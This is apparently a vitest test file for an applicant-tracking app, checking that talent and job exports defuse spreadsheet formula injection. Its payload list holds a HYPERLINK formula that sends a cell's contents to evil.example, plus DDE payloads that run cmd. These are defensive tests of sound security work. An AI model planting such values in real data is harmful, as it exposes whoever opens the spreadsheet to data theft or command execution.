import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedTenantData } from '../../db/seed/generate';
import { createRng } from '../../db/seed/random';
import { createTestApp, type TestApp } from '../../test/harness';
import { spreadsheetCell } from './spreadsheet-cell';

// Issue 20 §4.2: text is stored raw (what the user typed), and every export neutralises cells a
// spreadsheet program would run as a formula: a text cell beginning with = + - @, tab or CR is
// written with a leading apostrophe. Payloads of the section-1 probe.

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

let t: TestApp;
let admin: string;
let tenantId: string;

async function sheetTexts(payload: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const out: string[] = [];
  book.worksheets[0]!.eachRow((row) => {
    row.eachCell((cell) => {
      // A formula cell would come back as an object ({ formula }); text stays a string.
      // XML reads a stored CR back as LF.
      out.push(typeof cell.value === 'string' ? cell.value : JSON.stringify(cell.value));
    });
  });
  return out;
}

beforeAll(async () => {
  t = await createTestApp();
  admin = (await t.login('demo', 'admin')).token;
  tenantId = (
    await t.db.selectFrom('tenant').select('id').where('member_name', '=', 'demo').executeTakeFirstOrThrow()
  ).id;
  await seedTenantData(t.db, { tenantId, jobs: 2, resumes: 12, rng: createRng('formulas'), now: Date.now() });
  // The applicant's name as the list and the export read it (the application's copy).
  const applications = await t.db
    .selectFrom('application')
    .select('id')
    .where('tenant_id', '=', tenantId)
    .orderBy('id')
    .execute();
  for (const [index, payload] of PAYLOADS.entries()) {
    await t.db.updateTable('application').set({ name: payload }).where('id', '=', applications[index]!.id).execute();
  }
  const job = await t.db.selectFrom('job').select('id').where('tenant_id', '=', tenantId).executeTakeFirstOrThrow();
  await t.db.updateTable('job').set({ name_cn: PAYLOADS[0]! }).where('id', '=', job.id).execute();
}, 120_000);

afterAll(async () => {
  await t?.close();
});

describe('issue 20 §4.2 exports neutralise spreadsheet formulas', () => {
  it('§4.2 a text cell beginning with = + - @ tab CR gets a leading apostrophe; other text and numbers stay', () => {
    for (const payload of PAYLOADS) expect(spreadsheetCell(payload)).toBe(`'${payload}`);
    expect(spreadsheetCell('张三')).toBe('张三');
    expect(spreadsheetCell('a=1')).toBe('a=1');
    expect(spreadsheetCell(-5)).toBe(-5);
    expect(spreadsheetCell('')).toBe('');
  });

  it('§4.2 the talent export writes applicant names and job names as text, never a formula', async () => {
    const res = await t.call('POST', '/api/biz/talent/export', {
      token: admin,
      body: { selection: {}, columns: ['name', 'jobName'] },
    });
    expect(res.status).toBe(200);
    const cells = await sheetTexts(res.response.rawPayload);
    const asRead = PAYLOADS.map((p) => p.replace(/\r/g, '\n'));
    for (const payload of asRead) expect(cells).toContain(`'${payload}`);
    expect(cells.filter((c) => asRead.includes(c))).toEqual([]);
    expect(cells.some((c) => c.includes('"formula"'))).toBe(false);
  });

  it('§4.2 the job list export writes a job name beginning with = as text', async () => {
    const res = await t.call('POST', '/api/biz/jobs/export', { token: admin, body: {} });
    expect(res.status).toBe(200);
    const cells = await sheetTexts(res.response.rawPayload);
    expect(cells).toContain(`'${PAYLOADS[0]}`);
    expect(cells).not.toContain(PAYLOADS[0]);
  });
});
